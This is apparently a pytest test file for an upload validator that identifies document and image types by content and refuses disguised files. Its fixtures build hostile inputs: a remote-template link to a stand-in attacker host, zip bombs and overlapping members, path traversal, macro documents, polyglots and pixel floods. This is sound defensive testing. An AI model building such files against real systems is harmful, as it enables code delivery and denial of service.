"""Type by content: what is taken in, and every way of disguise that is not."""

import io
import zipfile

import pytest

from hi_cases.dokumen.rules import tentukan_tipe
from hi_cases.dokumen.types import BerkasDitolak, TipeBerkas
from tests.factories import berkas as contoh

_TEMPLAT_JAUH = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://jahat.example/a.dotm" TargetMode="External"/></Relationships>'
)
_MAKRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    ("isi", "tipe"),
    [
        (contoh.pdf(), TipeBerkas.PDF),
        (contoh.gambar("PNG"), TipeBerkas.PNG),
        (contoh.gambar("JPEG"), TipeBerkas.JPG),
        (contoh.docx(), TipeBerkas.DOCX),
        (contoh.xlsx(), TipeBerkas.XLSX),
        (contoh.docx({"word/_rels/a.rels": b'<Relationship Type="image"/>'}), TipeBerkas.DOCX),
    ],
)
def test_known_types_are_taken_by_content(isi: bytes, tipe: TipeBerkas) -> None:
    aliran = io.BytesIO(isi)
    assert tentukan_tipe(aliran) is tipe
    assert aliran.tell() == 0


def _bertindih() -> bytes:
    """Two directory entries over one member: the classic way to multiply without nesting."""
    isi = bytearray(contoh.docx({"word/a.xml": b"x" * 5000}))
    tengah = isi.find(b"PK\x01\x02", isi.find(b"PK\x01\x02") + 1)
    isi[tengah + 20 : tengah + 24] = (2_000_000).to_bytes(4, "little")
    return bytes(isi)


def _rels_utf16() -> bytes:
    return contoh.docx({"word/_rels/settings.xml.rels": _TEMPLAT_JAUH.decode().encode("utf-16")})


def _ganda() -> bytes:
    keluar = io.BytesIO(contoh.docx())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(keluar, "a") as tulis:
        tulis.writestr("word/document.xml", b"lain")
    return keluar.getvalue()


@pytest.mark.parametrize(
    ("isi", "kata"),
    [
        pytest.param(b"", "kosong", id="empty"),
        pytest.param(b"MZ" + b"\0" * 200, "tidak diterima", id="program"),
        pytest.param(b"<html><script>1</script></html>", "tidak diterima", id="html"),
        pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg'/>", "tidak diterima", id="svg"),
        pytest.param(b"GIF89a" + b"\0" * 50, "tidak diterima", id="gif"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "kata sandi", id="ole"),
        pytest.param(contoh.arsip({"a.txt": b"a"}), "Arsip ZIP", id="plain zip"),
        pytest.param(contoh.docx({"word/vbaProject.bin": b"x"}), "makro", id="vba part"),
        pytest.param(contoh.docx(utama=_MAKRO), "makro", id="docm"),
        pytest.param(contoh.terkunci(), "kata sandi", id="encrypted zip"),
        pytest.param(contoh.bom_zip(), "mekar", id="zip bomb"),
        pytest.param(_bertindih(), "mekar", id="overlapping members"),
        pytest.param(contoh.docx({"../keluar.xml": b"x"}), "tidak wajar", id="path traversal"),
        pytest.param(_ganda(), "tidak wajar", id="two members of one name"),
        pytest.param(
            contoh.docx({"word/_rels/settings.xml.rels": _TEMPLAT_JAUH}), "templat", id="template"
        ),
        pytest.param(_rels_utf16(), "templat", id="template hidden in UTF-16"),
        pytest.param(contoh.docx()[:-30], "tidak utuh", id="cut zip"),
        pytest.param(contoh.pdf() + contoh.docx(), "menumpang", id="pdf+zip polyglot"),
        pytest.param(contoh.gambar("JPEG") + contoh.docx(), "menumpang", id="jpg+zip polyglot"),
        pytest.param(contoh.gambar("PNG") + contoh.arsip({"a": b"a"}), "menumpang", id="png+zip"),
        pytest.param(contoh.pdf()[:-40], "tidak utuh", id="cut pdf"),
        pytest.param(b"\n" + contoh.pdf(), "tidak diterima", id="pdf not at the start"),
        pytest.param(contoh.png_berkepala(60_000, 60_000), "terlalu besar", id="huge picture"),
        pytest.param(contoh.png_berkepala(19_000, 19_000), "terlalu besar", id="pixel flood"),
        pytest.param(b"\x89PNG\r\n\x1a\nrusak", "tidak terbaca", id="broken png"),
        pytest.param(b"\xff\xd8\xff\xe0\x00\x10rusak", "tidak terbaca", id="broken jpg"),
    ],
)
def test_everything_else_is_refused_with_a_sentence(isi: bytes, kata: str) -> None:
    with pytest.raises(BerkasDitolak, match=kata):
        tentukan_tipe(io.BytesIO(isi))


def test_a_refusal_names_what_the_file_seems_to_be() -> None:
    with pytest.raises(BerkasDitolak, match=r"gambar GIF.*PDF, JPG, PNG, DOCX, dan XLSX"):
        tentukan_tipe(io.BytesIO(contoh.gambar("GIF")))
